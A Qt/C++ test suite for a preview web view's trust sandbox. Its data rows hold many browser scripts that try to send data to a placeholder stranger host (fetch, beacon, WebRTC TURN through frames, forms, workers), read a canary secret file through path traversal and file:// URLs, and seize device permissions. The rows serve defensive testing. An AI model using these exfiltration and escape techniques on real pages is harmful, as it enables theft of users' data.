// SPDX-License-Identifier: MIT
// A site that the person trusts, in the real web view: its scripts run and reach the hosts that
// were named, and nothing else.

#include "preview/page/view/previewview.h"
#include "preview/site/reader/sitereader.h"
#include "tests/support/foreignwatch.h"
#include "tests/support/pageanswer.h"
#include "tests/support/remotehost.h"

#include <QApplication>
#include <QEventLoop>
#include <QPointer>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <optional>

using namespace galley;

class TestTrustedPage : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanup();
    void cleanupTestCase();
    void scriptsRunOnlyWhenAllowed();
    void withdrawalTakesEffectAtOnce();
    void anotherSiteStartsWithoutTrust();
    void reachesNamedHosts();
    void picturesOfNamedHostsNeedNoScripts();
    void reachesNobodyElse_data();
    void reachesNobodyElse();
    void followsNoRedirectAway();
    void readsNoFileOutside_data();
    void readsNoFileOutside();
    void getsNoPermission_data();
    void getsNoPermission();
    void opensNothing_data();
    void opensNothing();
    void scriptedClicksDoNotCount();
    void staysPatchable();
    void keepsNothingOnDisk();

private:
    QVariant evaluate(const QString& script);
    void show(const QString& html, const SiteTrust& trust);
    QString scriptResult(const QString& script, const SiteTrust& trust);
    void write(const QString& path, const QByteArray& bytes);
    SiteTrust naming(const test::RemoteHost& host) const { return {true, {host.address()}}; }

    QTemporaryDir m_folder{QDir::tempPath() + QStringLiteral("/galley 信 XXXXXX")};
    QString m_site, m_secret;
    test::RemoteHost m_named, m_stranger;
    std::optional<test::ForeignWatch> m_watch;
    std::unique_ptr<PreviewView> m_view;
    SiteSnapshotPtr m_snapshot;
    PreviewTraffic m_traffic;
    int m_number = 0;
};

void TestTrustedPage::write(const QString& path, const QByteArray& bytes)
{
    QVERIFY(QDir().mkpath(QFileInfo(path).path()));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

void TestTrustedPage::initTestCase()
{
    const QString folder = QFileInfo(m_folder.path()).canonicalFilePath();
    m_site = folder + QStringLiteral("/site");
    m_secret = folder + QStringLiteral("/secret");
    write(m_secret + QStringLiteral("/secret.txt"), "canary-7f3a9");
    write(m_site + QStringLiteral("/_config.yml"), "title: Trusted\npermalink: pretty\n");
    write(m_site + QStringLiteral("/_layouts/post.html"),
        "<!DOCTYPE html><html><head><title>Safe</title></head><body><main>{{ content }}</main>"
        "</body></html>");
    write(
        m_site + QStringLiteral("/static/own.js"), "document.documentElement.dataset.own = 'ran'");
    write(m_site + QStringLiteral("/static/own.json"), "{\"word\": \"own words\"}");
    QVERIFY(QFile::link(
        m_secret + QStringLiteral("/secret.txt"), m_site + QStringLiteral("/static/link.txt")));
    m_watch.emplace(m_secret);
    const auto site = readSite(m_site);
    QVERIFY(site.has_value());
    m_snapshot = *site;
    m_view = std::make_unique<PreviewView>();
    m_view->resize(700, 500);
    m_view->setPatience(std::chrono::minutes(10)); // other programs may have the processor
    connect(m_view.get(), &PreviewView::trafficChanged, this,
        [this](const PreviewTraffic& traffic) { m_traffic = traffic; });
    m_view->show();
}

void TestTrustedPage::cleanup()
{
    QCOMPARE(m_stranger.visits(), 0);
    QCOMPARE(m_watch->opened(), QStringList());
    m_named.answer.clear();
    m_named.forget();
}

void TestTrustedPage::cleanupTestCase()
{
    m_view.reset();
    QCoreApplication::processEvents();
    QCOMPARE(m_stranger.visits(), 0); // nor later
}

QVariant TestTrustedPage::evaluate(const QString& script)
{
    return test::pageAnswer(*m_view, script);
}

void TestTrustedPage::show(const QString& html, const SiteTrust& trust)
{
    QSignalSpy patched(m_view.get(), &PreviewView::patched);
    m_traffic = {};
    m_view->setSite(m_snapshot, trust);
    m_view->setText(QStringLiteral("---\nlayout: post\n---\n\n") + html + QLatin1Char('\n'),
        QStringLiteral("%1/_posts/2025-01-02-trusted-%2.md").arg(m_site).arg(++m_number));
    const QString address = QStringLiteral("/2025/01/02/trusted-%1/").arg(m_number);
    QTRY_VERIFY_WITH_TIMEOUT(!patched.isEmpty()
            && evaluate(QStringLiteral("location.pathname")).toString() == address
            && evaluate(QStringLiteral("document.readyState")).toString()
                == QLatin1String("complete"),
        1120000);
}

// Runs the script as the page's own; gives what it passes to done(), or the error that it threw.
QString TestTrustedPage::scriptResult(const QString& script, const SiteTrust& trust)
{
    show(QStringLiteral("<script>const done = x => document.documentElement.dataset.result = "
                        "String(x);\n(async () => { %1 })().catch(e => done('error ' + e.name));"
                        "</script>")
             .arg(script),
        trust);
    const auto result = [this] {
        return evaluate(QStringLiteral("document.documentElement.dataset.result ?? ''")).toString();
    };
    [&] { QTRY_VERIFY_WITH_TIMEOUT(!result().isEmpty(), 120000); }();
    return result();
}

void TestTrustedPage::scriptsRunOnlyWhenAllowed()
{
    const QString html =
        QStringLiteral("<script src=\"/static/own.js\"></script><script>document.title = 'inline'"
                       "</script><b onclick=\"document.title = 'handler'\">x</b>");
    show(html, {});
    QCOMPARE(evaluate(QStringLiteral("document.title")).toString(), QStringLiteral("Safe"));
    QVERIFY(!evaluate(QStringLiteral("'own' in document.documentElement.dataset")).toBool());
    QVERIFY(m_traffic.blocked > 0);

    show(html, {true, {}});
    QTRY_COMPARE(evaluate(QStringLiteral("document.documentElement.dataset.own")).toString(),
        QStringLiteral("ran"));
    QCOMPARE(evaluate(QStringLiteral("document.title")).toString(), QStringLiteral("inline"));
    evaluate(QStringLiteral("document.querySelector('b').click()"));
    QCOMPARE(evaluate(QStringLiteral("document.title")).toString(), QStringLiteral("handler"));
    QCOMPARE(m_traffic.blocked, 0);
    QCOMPARE(scriptResult(QStringLiteral("const x = new XMLHttpRequest(); x.onload = () => "
                                         "done(JSON.parse(x.responseText).word); x.open('GET', "
                                         "'/static/own.json'); x.send()"),
                 {true, {}}),
        QStringLiteral("own words"));
}

void TestTrustedPage::withdrawalTakesEffectAtOnce()
{
    show(QStringLiteral("<p>x</p><script>let n = 0; setInterval(() => "
                        "document.documentElement.dataset.ticks = ++n, 5)</script>"),
        {true, {}});
    const auto ticks = [this] {
        return evaluate(QStringLiteral("Number(document.documentElement.dataset.ticks ?? 0)"))
            .toInt();
    };
    QTRY_VERIFY(ticks() > 2);
    QSignalSpy patched(m_view.get(), &PreviewView::patched);
    const qint64 process = m_view->engineProcess();
    m_view->setSite(m_snapshot, {}); // nothing but that
    QTRY_VERIFY_WITH_TIMEOUT(!patched.isEmpty(), 120000);
    QVERIFY(m_view->engineProcess() != process); // what ran there is gone
    QCOMPARE(ticks(), 0);
    QCOMPARE(evaluate(QStringLiteral("document.querySelector('p').textContent")).toString(),
        QStringLiteral("x"));
    m_view->setSite(m_snapshot, {true, {}}); // and back
    QTRY_VERIFY_WITH_TIMEOUT(ticks() > 2, 120000);
}

void TestTrustedPage::anotherSiteStartsWithoutTrust()
{
    show(QStringLiteral("<script>document.title = 'scripted'</script>"), {true, {}});
    QTRY_COMPARE(evaluate(QStringLiteral("document.title")).toString(), QStringLiteral("scripted"));
    QSignalSpy patched(m_view.get(), &PreviewView::patched);
    m_view->setSite(embeddedSite());
    QTRY_VERIFY_WITH_TIMEOUT(!patched.isEmpty(), 120000);
    QVERIFY(evaluate(QStringLiteral("document.title")).toString() != QStringLiteral("scripted"));
}

void TestTrustedPage::reachesNamedHosts()
{
    m_named.answer = "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\n"
                     "Access-Control-Allow-Origin: *\r\nContent-Length: 30\r\n"
                     "Connection: close\r\n\r\ndocument.title = 'from a host'";
    const QString html = QStringLiteral("<script src=\"http://%1/lib.js\"></script>"
                                        "<img src=\"http://%1/p.png\">"
                                        "<link rel=\"stylesheet\" href=\"http://%1/s.css\">")
                             .arg(m_named.address());
    show(html, {true, {}});
    QCOMPARE(m_named.visits(), 0);
    QTRY_VERIFY(
        m_traffic.refused.contains(QStringLiteral("http://%1/lib.js").arg(m_named.address())));

    show(html, naming(m_named));
    QTRY_COMPARE(
        evaluate(QStringLiteral("document.title")).toString(), QStringLiteral("from a host"));
    for (const char* path : {"/lib.js", "/p.png", "/s.css"})
        QTRY_VERIFY2(m_named.asked().contains(QLatin1String(path)), path);
    QCOMPARE(scriptResult(
                 QStringLiteral("done((await fetch('http://%1/f')).status)").arg(m_named.address()),
                 naming(m_named)),
        QStringLiteral("200"));
}

void TestTrustedPage::picturesOfNamedHostsNeedNoScripts()
{
    m_named.answer = "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
    show(QStringLiteral("<img src=\"http://%1/only.png\"><script src=\"http://%1/no.js\"></script>")
             .arg(m_named.address()),
        {false, {m_named.address()}});
    QTRY_VERIFY(m_named.asked().contains(QStringLiteral("/only.png")));
    QVERIFY(!m_named.asked().contains(QStringLiteral("/no.js")));
}

void TestTrustedPage::reachesNobodyElse_data()
{
    QTest::addColumn<QString>("script");
    const auto row = [](const char* name, const char* script) {
        QTest::newRow(name) << QString::fromLatin1(script);
    };
    row("fetch", "await fetch('http://{s}/f').then(() => 0, () => 0); done(1)");
    row("fetch without cors",
        "await fetch('http://{s}/f', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: "
        "true}).then(() => 0, () => 0); done(1)");
    row("request",
        "const x = new XMLHttpRequest(); x.onloadend = () => done(1); x.open('POST', "
        "'http://{s}/x'); x.send('secret')");
    row("beacon", "navigator.sendBeacon('http://{s}/b', 'x'); done(1)");
    row("socket", "const w = new WebSocket('ws://{s}/'); w.onerror = () => done(1)");
    row("events", "const e = new EventSource('http://{s}/e'); e.onerror = () => done(1)");
    row("picture", "const i = new Image(); i.onerror = () => done(1); i.src = 'http://{s}/i.png'");
    row("script",
        "const s = document.createElement('script'); s.onerror = () => done(1); s.src = "
        "'http://{s}/s.js'; document.head.append(s)");
    row("import", "await import('http://{s}/m.js').catch(() => 0); done(1)");
    row("style",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = () => "
        "done(1); l.href = 'http://{s}/s.css'; document.head.append(l)");
    row("prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://{s}/p'; "
        "document.head.append(l); setTimeout(done, 200, 1)");
    if (!test::kConnectsAhead)
        row("preconnect",
            "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = "
            "'http://{s}/'; document.head.append(l); setTimeout(done, 200, 1)");
    row("other hints",
        "for (const rel of ['dns-prefetch', 'prerender', 'modulepreload']) { const l "
        "= document.createElement('link'); l.rel = rel; l.href = 'http://{s}/'; "
        "document.head.append(l) } setTimeout(done, 200, 1)");
    row("font",
        "await new FontFace('X', 'url(http://{s}/f.woff2)').load().catch(() => 0); done(1)");
    row("media", "const a = new Audio('http://{s}/a.mp3'); a.onerror = () => done(1); a.load()");
    row("frame",
        "const f = document.createElement('iframe'); f.src = 'http://{s}/f'; "
        "document.body.append(f); setTimeout(done, 200, 1)");
    row("form",
        "const f = document.createElement('form'); f.action = 'http://{s}/f'; f.method = 'post'; "
        "document.body.append(f); f.submit(); setTimeout(done, 200, 1)");
    row("going there", "location.href = 'http://{s}/go'; setTimeout(done, 200, 1)");
    row("going there by replacing", "location.replace('http://{s}/go'); setTimeout(done, 200, 1)");
    row("window", "window.open('http://{s}/w'); setTimeout(done, 200, 1)");
    row("worker",
        "try { new Worker(URL.createObjectURL(new Blob([`fetch('http://{s}/w')`]))) } catch {} "
        "setTimeout(done, 200, 1)");
    row("worker of the site",
        "try { new Worker('/static/own.js') } catch {} setTimeout(done, 200, 1)");
    row("shared worker", "try { new SharedWorker('http://{s}/w.js') } catch {} done(1)");
    row("service worker",
        "await (navigator.serviceWorker?.register('/static/own.js') ?? Promise.reject())"
        ".catch(() => 0); done(1)");
    row("video call",
        "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{u}'}, {urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame's window",
        "const f = document.createElement('iframe'); document.body.append(f); try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'stun:{u}'}, {urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame that has just loaded",
        "const f = document.createElement('iframe'); f.onload = async () => { try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'turn:{s}?transport=tcp', username: 'a', "
        "credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await "
        "p.createOffer()) } catch {} }; document.body.append(f); setTimeout(done, 400, 1)");
    row("video call from a frame that was written",
        "document.write('<iframe></iframe>'); try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'turn:{s}?transport=tcp', username: 'a', "
        "credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await "
        "p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame deep inside",
        "document.body.insertAdjacentHTML('beforeend', '<div><p><iframe></iframe></p></div>'); "
        "try { const p = new window[0].RTCPeerConnection({iceServers: [{urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame in a shadow",
        "const h = document.createElement('div'); document.body.append(h); const r = "
        "h.attachShadow({mode: 'open'}); r.innerHTML = '<iframe></iframe>'; try { const p = new "
        "(window[0] ?? r.firstChild.contentWindow).RTCPeerConnection({iceServers: [{urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("fetch from a frame's window",
        "const f = document.createElement('iframe'); document.body.append(f); await "
        "window[0]?.fetch('http://{s}/f').then(() => 0, () => 0); done(1)");
    row("transport",
        "try { const t = new WebTransport('https://{u}/'); await t.ready } catch {} done(1)");
    row("payment and presentation",
        "try { new PresentationRequest('http://{s}/p').start() } catch {} setTimeout(done, 100, "
        "1)");
    row("style element",
        "const s = document.createElement('style'); s.textContent = '@import url(http://{s}/i.css);"
        " body { background: url(http://{s}/b.png) }'; document.head.append(s); setTimeout(done, "
        "200, 1)");
    row("markup",
        "document.body.insertAdjacentHTML('beforeend', '<img src=http://{s}/i.png><iframe "
        "srcdoc=\"<img src=http://{s}/j.png>\"></iframe><object data=http://{s}/o></object><embed "
        "src=http://{s}/e><video src=http://{s}/v></video>'); setTimeout(done, 200, 1)");
    row("policy of its own",
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy "
        "content=\"default-src *\"><meta http-equiv=refresh content=\"0;url=http://{s}/r\">'); "
        "setTimeout(done, 200, 1)");
}

void TestTrustedPage::reachesNobodyElse()
{
    QFETCH(QString, script);
    script.replace(QStringLiteral("{s}"), m_stranger.address());
    script.replace(
        QStringLiteral("{u}"), QStringLiteral("127.0.0.1:%1").arg(m_stranger.datagramPort()));
    QCOMPARE(scriptResult(script, naming(m_named)), QStringLiteral("1"));
    QVERIFY(evaluate(QStringLiteral("location.href"))
                .toString()
                .startsWith(QStringLiteral("site://checkout/")));
    const int visits = m_stranger.visits();
    m_stranger.forget();
    QCOMPARE(visits, 0);
}

void TestTrustedPage::followsNoRedirectAway()
{
    m_named.answer = "HTTP/1.1 302 Found\r\nLocation: http://" + m_stranger.address().toLatin1()
        + "/away\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n"
          "\r\n";
    QCOMPARE(
        scriptResult(QStringLiteral("const i = new Image(); await new Promise(r => { i.onerror = r;"
                                    " i.onload = r; i.src = 'http://%1/i.png' }); await "
                                    "fetch('http://%1/f').catch(() => 0); done(1)")
                         .arg(m_named.address()),
            naming(m_named)),
        QStringLiteral("1"));
    QVERIFY(m_named.asked().contains(QStringLiteral("/i.png")));
    QVERIFY(m_named.asked().contains(QStringLiteral("/f")));
    QCOMPARE(m_stranger.visits(), 0);
}

void TestTrustedPage::readsNoFileOutside_data()
{
    QTest::addColumn<QString>("address");
    for (const char* address :
        {"/static/link.txt", "/../secret/secret.txt", "/..%2fsecret%2fsecret.txt",
            "/%2e%2e/secret/secret.txt", "{secret}/secret.txt", "file://{secret}/secret.txt",
            "site://checkout{secret}/secret.txt", "site://web/..%2f..%2fsecret/secret.txt",
            "qrc:/site/_config.yml", "view-source:file://{secret}/secret.txt", "chrome://version",
            "blob:site://checkout/1", "/.git/config", "/_config.yml"})
        QTest::newRow(address) << QString::fromLatin1(address);
}

void TestTrustedPage::readsNoFileOutside()
{
    QFETCH(QString, address);
    address.replace(QStringLiteral("{secret}"), m_secret);
    const QString script = QStringLiteral(
        "const x = new XMLHttpRequest(); x.onload = () => done('read ' + x.responseText); "
        "x.onerror = () => done('refused'); x.open('GET', '%1'); x.send()");
    QVERIFY(!scriptResult(script.arg(address), {true, {}}).startsWith(QLatin1String("read")));
    QCOMPARE(m_watch->opened(), QStringList());
}

void TestTrustedPage::getsNoPermission_data()
{
    QTest::addColumn<QString>("script");
    const auto row = [](const char* name, const char* script) {
        QTest::newRow(name) << QString::fromLatin1(script);
    };
    // Each says "granted" if it gets what it wants.
    row("camera", "await navigator.mediaDevices.getUserMedia({video: true}); done('granted')");
    row("microphone", "await navigator.mediaDevices.getUserMedia({audio: true}); done('granted')");
    row("screen", "await navigator.mediaDevices.getDisplayMedia(); done('granted')");
    row("location",
        "navigator.geolocation.getCurrentPosition(() => done('granted'), e => done('error'))");
    row("notifications", "done(await Notification.requestPermission())");
    row("clipboard", "await navigator.clipboard.readText(); done('granted')");
    row("clipboard as it was", "done(document.execCommand('paste') ? 'granted' : 'error')");
    row("writing to the clipboard", "await navigator.clipboard.writeText('x'); done('granted')");
    row("full screen", "await document.documentElement.requestFullscreen(); done('granted')");
    row("pointer",
        "document.onpointerlockchange = () => done('granted'); document.onpointerlockerror = () => "
        "done('error'); document.body.requestPointerLock(); setTimeout(done, 500, 'error')");
    row("files", "await showOpenFilePicker(); done('granted')");
    row("folders", "await showDirectoryPicker(); done('granted')");
    row("devices", "await navigator.usb.requestDevice({filters: []}); done('granted')");
    row("serial ports", "await navigator.serial.requestPort(); done('granted')");
    row("bluetooth",
        "await navigator.bluetooth.requestDevice({acceptAllDevices: true}); done('granted')");
    row("midi", "await navigator.requestMIDIAccess({sysex: true}); done('granted')");
    row("fonts", "await queryLocalFonts(); done('granted')");
    row("lasting storage", "done(await navigator.storage.persist() ? 'granted' : 'error')");
    row("storage", "localStorage.setItem('a', 'b'); done('granted')");
    row("cookies", "document.cookie = 'a=b'; done(document.cookie ? 'granted' : 'error')");
}

void TestTrustedPage::getsNoPermission()
{
    QFETCH(const QString, script);
    QVERIFY2(scriptResult(script, {true, {}}) != QLatin1String("granted"), qPrintable(script));
}

void TestTrustedPage::opensNothing_data()
{
    QTest::addColumn<QString>("script");
    const auto row = [](const char* name, const char* script) {
        QTest::newRow(name) << QString::fromLatin1(script);
    };
    row("window", "done(window.open('/') === null ? 1 : 2)");
    row("empty window", "done(window.open('') === null ? 1 : 2)");
    row("message", "alert('x'); done(1)");
    row("question", "done(confirm('x') ? 2 : 1)");
    row("input", "done(prompt('x', 'y') === null ? 1 : 2)");
    row("file chooser",
        "const i = document.createElement('input'); i.type = 'file'; document.body.append(i); "
        "i.click(); setTimeout(() => done(i.files.length === 0 ? 1 : 2), 200)");
    row("download",
        "const a = document.createElement('a'); a.download = 'x.txt'; a.href = "
        "URL.createObjectURL(new Blob(['x'])); document.body.append(a); a.click(); "
        "setTimeout(done, 200, 1)");
    row("printing", "print(); done(1)");
    row("other programs",
        "location.href = 'mailto:a@example.org'; location.href = 'tel:1'; setTimeout(done, 200, "
        "1)");
    row("protocol handler",
        "try { navigator.registerProtocolHandler('web+x', '/?%s') } catch {} done(1)");
}

void TestTrustedPage::opensNothing()
{
    QFETCH(const QString, script);
    const auto windows = QApplication::topLevelWidgets().size();
    QSignalSpy linkClicked(m_view.get(), &PreviewView::linkClicked);
    QCOMPARE(scriptResult(script, {true, {}}), QStringLiteral("1"));
    QVERIFY(QApplication::activeModalWidget() == nullptr);
    QCOMPARE(QApplication::topLevelWidgets().size(), windows);
    QCOMPARE(linkClicked.size(), 0);
}

// Else a script could send what it knows through the person's own browser.
void TestTrustedPage::scriptedClicksDoNotCount()
{
    QSignalSpy linkClicked(m_view.get(), &PreviewView::linkClicked);
    QCOMPARE(scriptResult(QStringLiteral("document.body.insertAdjacentHTML('afterbegin', '<a "
                                         "style=\"position:fixed;inset:0;display:block\" "
                                         "href=\"https://example.org/?secret\">x</a>'); "
                                         "document.querySelector('a').click(); "
                                         "setTimeout(done, 100, 1)"),
                 {true, {}}),
        QStringLiteral("1"));
    QCOMPARE(linkClicked.size(), 0);
    // A person's click does.
    QTest::mouseClick(m_view->focusProxy()->focusProxy() ? m_view->focusProxy()->focusProxy()
                                                         : m_view->focusProxy(),
        Qt::LeftButton, Qt::ControlModifier, QPoint(60, 60));
    QTRY_COMPARE(linkClicked.size(), 1);
    QCOMPARE(linkClicked.at(0).at(0).toUrl(), QUrl(QStringLiteral("https://example.org/?secret")));
}

void TestTrustedPage::staysPatchable()
{
    show(QStringLiteral("One.\n\nTwo.\n\n<script>document.querySelector('p').remove()</script>"),
        {true, {}});
    QTRY_COMPARE(evaluate(QStringLiteral("document.querySelectorAll('p').length")).toInt(), 1);
    QSignalSpy patched(m_view.get(), &PreviewView::patched);
    m_view->setText(QStringLiteral("---\nlayout: post\n---\n\nOne.\n\nTwo and a half.\n"),
        QStringLiteral("%1/_posts/2025-01-02-trusted-%2.md").arg(m_site).arg(m_number));
    QTRY_VERIFY_WITH_TIMEOUT(!patched.isEmpty(), 120000);
    QVERIFY(evaluate(QStringLiteral("document.body.innerText"))
                .toString()
                .contains(QStringLiteral("Two and a half.")));
}

void TestTrustedPage::keepsNothingOnDisk()
{
    const QString data = QStandardPaths::writableLocation(QStandardPaths::AppDataLocation);
    const QString cache = QStandardPaths::writableLocation(QStandardPaths::CacheLocation);
    QVERIFY(!QFileInfo::exists(data + QStringLiteral("/QtWebEngine")));
    QVERIFY(!QFileInfo::exists(cache + QStringLiteral("/QtWebEngine")));
}

int main(int argc, char** argv)
{
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--host-resolver-rules=\"MAP * 127.0.0.1\"");
    registerPreviewScheme();
    QApplication application(argc, argv);
    TestTrustedPage test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_trustedpage.moc"
